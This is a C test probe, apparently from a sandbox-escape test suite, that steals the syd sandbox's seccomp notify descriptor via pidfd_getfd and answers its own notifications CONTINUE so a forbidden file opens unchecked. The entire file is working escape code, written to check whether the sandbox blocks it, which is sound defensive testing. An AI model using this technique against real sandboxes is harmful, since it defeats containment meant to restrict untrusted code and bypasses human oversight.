/*
 * esc_steal_listener SECRET MARKER SECONDS
 *
 * The sandbox takes syd's own seccomp notify fd: pidfd_open(2) of the
 * parent (syd) and pidfd_getfd(2) of each of its fds. The kernel allows
 * that to whoever may ptrace syd (PTRACE_MODE_ATTACH_REALCREDS: same uid
 * and syd dumpable, or CAP_SYS_PTRACE). The notify fd is known by its
 * link text "anon_inode:seccomp notify". With it the sandbox answers its
 * own notifications: one thread opens SECRET in a loop, the main thread
 * receives notifications and answers SECCOMP_USER_NOTIF_FLAG_CONTINUE, so
 * the kernel opens the denied file unchecked.
 *
 * Prints "ESCAPED stole syd's listener ..." and exits 0 once the listener
 * is in hand (the line says how often the secret was then read); else
 * "BLOCKED <step>: <errno>" and exits 1. Natively there is no syd to rob.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "esc.h"

static const char *secret, *marker;
static volatile int stop;
static volatile unsigned long wins;

static void *
opener(void *arg)
{
	int fd;

	(void)arg;
	while (!stop) {
		if ((fd = open(secret, O_RDONLY)) < 0)
			continue;
		if (esc_read_marker(fd, marker))
			wins++;
	}
	return NULL;
}

/* Answer CONTINUE to whatever arrives until SECONDS have passed. */
static unsigned long
serve(int lfd, double seconds)
{
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;
	struct pollfd p = { lfd, POLLIN, 0 };
	unsigned long answered = 0;
	time_t end = time(NULL) + (time_t)seconds + 1;

	while (time(NULL) < end && wins == 0) {
		if (poll(&p, 1, 50) <= 0)
			continue;
		memset(&req, 0, sizeof(req));
		if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue; /* syd's emulators took it first */
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
			answered++;
	}
	return answered;
}

int
main(int argc, char **argv)
{
	char link[64], text[256];
	int pidfd, lfd = -1, stolen = 0, err = 0, fd;
	pid_t pp = getppid();
	unsigned long answered;
	pthread_t th;
	ssize_t n;

	if (argc != 4) {
		fprintf(stderr, "usage: esc_steal_listener SECRET MARKER "
		    "SECONDS\n");
		return 2;
	}
	secret = argv[1];
	marker = argv[2];
	if ((pidfd = (int)syscall(SYS_pidfd_open, pp, 0)) < 0) {
		printf("BLOCKED pidfd_open(%d): %s\n", (int)pp, strerror(errno));
		return 1;
	}
	for (fd = 0; fd < 1024 && lfd < 0; fd++) {
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (got < 0) {
			if (errno != EBADF)
				err = errno;
			continue;
		}
		stolen++;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", got);
		n = readlink(link, text, sizeof(text) - 1);
		text[n > 0 ? n : 0] = '\0';
		if (strstr(text, "seccomp notify") != NULL)
			lfd = got;
		else
			close(got);
	}
	if (lfd < 0) {
		printf("BLOCKED no listener in pid %d (took %d fds; pidfd_getfd:"
		    " %s)\n", (int)pp, stolen, err ? strerror(err) : "ok");
		return 1;
	}
	if (pthread_create(&th, NULL, opener, NULL) != 0)
		return 2;
	answered = serve(lfd, atof(argv[3]));
	stop = 1;
	pthread_join(th, NULL);
	printf("ESCAPED stole syd's listener (pid %d fd %d); answered %lu "
	    "notifications CONTINUE; read %s %lu times\n", (int)pp, fd - 1,
	    answered, marker, (unsigned long)wins);
	return 0;
}
